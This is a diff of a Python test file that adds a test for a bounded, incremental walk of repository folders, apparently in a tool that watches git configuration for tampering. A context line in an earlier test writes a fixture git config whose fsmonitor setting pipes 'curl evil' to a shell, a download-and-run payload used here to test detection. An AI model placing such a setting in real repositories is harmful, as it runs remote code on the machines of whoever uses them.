@@ -252,3 +252,21 @@ def test_a_file_the_repositorys_configuration_includes_is_watched(workspace: Pat
         "[core]\n\tfsmonitor = curl evil | sh\n"))
     assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/shared.gitconfig", Change.CHANGED, True)]
     assert (nested / "shared.gitconfig").read_text() == "[user]\n\tname = me\n"
+
+
+def test_the_walk_after_reads_what_the_walk_before_read_and_what_is_new(tmp_path: Path) -> None:
+    """Unchanged, a tree beyond the bound costs the same after the command as before it; a new
+    folder in a folder read before is read however many there are."""
+    repositories.forget()
+    for i in range(30):
+        (tmp_path / f"d{i:02}" / "x").mkdir(parents=True)
+    before = repositories.find(tmp_path, max_folders=10)
+    after = repositories.find(tmp_path, max_folders=10, before=before)
+    assert after.read.keys() == before.read.keys() and after.cut
+    some = next(f for f in before.read if f != str(tmp_path))
+    (Path(some) / "new" / ".git").mkdir(parents=True)
+    again = repositories.find(tmp_path, max_folders=10, before=before)
+    assert f"{some}/new/.git" in [e.path for e in again.entries]
+    for i in range(30):  # many new folders: at most the bound of them is read
+        (tmp_path / f"e{i:02}").mkdir()
+    assert len(repositories.find(tmp_path, max_folders=10, before=before).read) <= len(before.read) + 10
